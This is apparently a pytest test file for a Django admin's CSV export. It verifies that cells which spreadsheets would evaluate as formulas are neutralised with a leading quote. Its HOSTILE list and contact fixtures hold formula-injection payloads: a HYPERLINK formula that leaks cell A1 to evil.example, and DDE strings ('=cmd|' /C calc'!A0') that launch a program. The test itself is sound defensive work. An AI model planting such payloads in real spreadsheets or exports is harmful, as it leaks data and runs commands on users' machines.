"""CSV exports of the admin: one helper, formula-looking text neutralised, messages with their text."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from inbox.exports import neutralise_cell
from sync.models import SyncRun
from tests.factories import ConnectionFactory, ContactFactory, ConversationFactory, MessageFactory, UserFactory

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+55 11 4004-0000", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\uff1dcmd|' /C calc'!A0"]


@pytest.mark.smoke
@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_evaluate_gets_a_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value, written", [
    ("Ana", "Ana"), ("a=b", "a=b"), (" =1", " =1"), ("", ""), (None, ""), (-5, -5), (3.5, 3.5), (True, True),
])
def test_other_values_are_written_as_they_are(value, written):
    assert neutralise_cell(value) == written


def export(client, model_admin_url: str, pks) -> list[list[str]]:
    response = client.post(reverse(model_admin_url), {"action": "export_as_csv", "_selected_action": list(pks)})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment; filename=")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_message_export_has_the_whole_text_and_neutralises_hostile_cells(admin_client):
    conv = ConversationFactory(chat_jid="=1+1@s.whatsapp.net")
    long_text = "Hello, " + "x" * 300 + "\nsecond line"
    messages = [MessageFactory(conversation=conv, body=long_text),
                MessageFactory(conversation=conv, body=HOSTILE[0], sender_jid="@evil"),
                MessageFactory(conversation=conv, body="-1", sender_user=UserFactory(username="=agent"))]
    header, *rows = export(admin_client, "admin:inbox_message_changelist", [m.pk for m in messages])
    assert "body" in header
    by_id = {row[header.index("id")]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_id[str(messages[0].pk)]["body"] == long_text  # the whole text, not the changelist's 80 characters
    assert by_id[str(messages[1].pk)]["body"] == "'" + HOSTILE[0]
    assert by_id[str(messages[1].pk)]["sender_jid"] == "'@evil"
    assert by_id[str(messages[2].pk)]["body"] == "'-1"
    assert by_id[str(messages[2].pk)]["sender_user"] == "'=agent"
    assert by_id[str(messages[0].pk)]["conversation"].startswith("'=1+1@s.whatsapp.net")


@pytest.mark.django_db
def test_message_export_query_count_does_not_grow_with_rows(admin_client):
    conv = ConversationFactory()
    agent = UserFactory()

    def queries(pks):
        with CaptureQueriesContext(connection) as ctx:
            export(admin_client, "admin:inbox_message_changelist", pks)
        return len(ctx.captured_queries)

    one = queries([MessageFactory(conversation=conv, sender_user=agent).pk])
    many = queries([MessageFactory(conversation=conv, sender_user=UserFactory()).pk for _ in range(30)])
    assert many == one


@pytest.mark.django_db
def test_contact_connection_and_sync_run_exports_use_the_same_neutralising_writer(admin_client):
    contact = ContactFactory(display_name="=cmd|' /C calc'!A0", phone_number="+5511987654321")
    [contact_row] = export(admin_client, "admin:inbox_contact_changelist", [contact.pk])[1:]
    assert "'=cmd|' /C calc'!A0" in contact_row and "'+5511987654321" in contact_row

    conn = ConnectionFactory(name="@SUM(1+1)*cmd")
    [conn_row] = export(admin_client, "admin:connections_connection_changelist", [conn.pk])[1:]
    assert conn_row[0] == "'@SUM(1+1)*cmd"

    run = SyncRun.objects.create(tenant=conn.tenant, connection=conn, kind="history", started_at=timezone.now(),
                                 error="-1+1 failed")
    header, run_row = export(admin_client, "admin:sync_syncrun_changelist", [run.pk])
    assert run_row[header.index("error")] == "'-1+1 failed"
    assert run_row[header.index("connection")] == f"'@SUM(1+1)*cmd ({conn.tenant_id})"
